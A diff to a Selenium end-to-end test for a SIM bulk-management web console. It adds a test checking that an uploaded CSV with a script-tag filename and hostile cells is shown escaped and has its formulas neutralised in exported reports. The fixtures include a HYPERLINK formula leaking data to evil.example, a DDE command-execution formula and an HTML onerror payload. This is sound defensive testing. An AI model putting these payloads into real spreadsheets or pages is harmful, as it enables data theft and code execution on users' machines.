@@ -7,6 +7,8 @@ was sent. Every page visited is saved to e2e-screens/ for review.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import signal
@@ -14,6 +16,7 @@ import subprocess
 import time
 from pathlib import Path
 
+from openpyxl import load_workbook
 from selenium.webdriver.common.by import By
 
 from lf_bulk.sandbox.seed import DEMO_GROUP
@@ -22,6 +25,7 @@ from .conftest import Console
 from .journeys import (
     Shot,
     download,
+    element,
     page_text,
     run_id_of,
     table_cells,
@@ -36,6 +40,12 @@ from .journeys import (
 
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLES = ROOT / "samples"
+HOSTILE_NAME = "<script>.csv"
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "=cmd|' /C calc'!A0",
+    "<img src=x onerror=\"document.title='pwned'\">",
+)
 RECONCILED_GROUP = "G1000003"  # 24 members in the console's world; no other journey touches it
 RUN_LINE = re.compile(r"^run (?P<run>\S+)", re.MULTILINE)
 # The command-line run that gets killed sends one batch of 10 SIMs at a time, two calls a second:
@@ -225,3 +235,46 @@ def test_reconcile_shows_the_drift_and_applies_it_only_with_the_typed_consent(
     shot("applied")
     with console.server.sandbox_state() as state:
         assert sorted(state.members(RECONCILED_GROUP)) == sorted(kept + newcomers)
+
+
+def test_a_file_named_script_with_formula_cells_is_shown_escaped_and_reported_neutralised(
+    console: Console, shot: Shot, tmp_path: Path
+) -> None:
+    driver = console.driver
+    with console.server.sandbox_state() as state:
+        valid = state.ungrouped_sims(1)[0]
+    hostile = write_csv(
+        tmp_path / HOSTILE_NAME, [["iccid"], *([c] for c in HOSTILE_CELLS), [valid]]
+    )
+    upload(console, hostile, action="add", group=DEMO_GROUP)
+    wait_for(driver, "#invalid-rows")
+    shot("check")
+    assert driver.title != "pwned"
+    assert HOSTILE_NAME in driver.find_element(By.TAG_NAME, "h1").text  # shown as text
+    shown = [row[1] for row in table_cells(driver, "#invalid-rows")]
+    assert shown == list(HOSTILE_CELLS), shown
+    assert not driver.find_elements(By.CSS_SELECTOR, "main img, main script")
+    scripts = [s.get_attribute("src") or "" for s in driver.find_elements(By.TAG_NAME, "script")]
+    assert all(src.startswith(console.server.base_url + "/static/") for src in scripts), scripts
+
+    driver.find_element(By.ID, "to-plan-skipping").click()
+    wait_for(driver, "#plan")
+    driver.find_element(By.ID, "confirm").click()
+    wait_for_status(driver, "finished")
+    shot("result")
+    assert driver.title != "pwned"
+    assert element(driver, "main img") is None
+
+    items_csv = download(console, driver, "items.csv").decode("utf-8")
+    typed = {
+        row["iccid"]
+        for row in csv.DictReader(io.StringIO(items_csv))
+        if row["outcome"] == "invalid"
+    }
+    assert typed == {"'" + cell if cell.startswith("=") else cell for cell in HOSTILE_CELLS}
+    book = load_workbook(io.BytesIO(download(console, driver, "report.xlsx")))
+    cells = [cell for row in book["Items"].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], (
+        "a formula in report.xlsx"
+    )
+    assert {"'" + c for c in HOSTILE_CELLS if c.startswith("=")} <= {str(c.value) for c in cells}
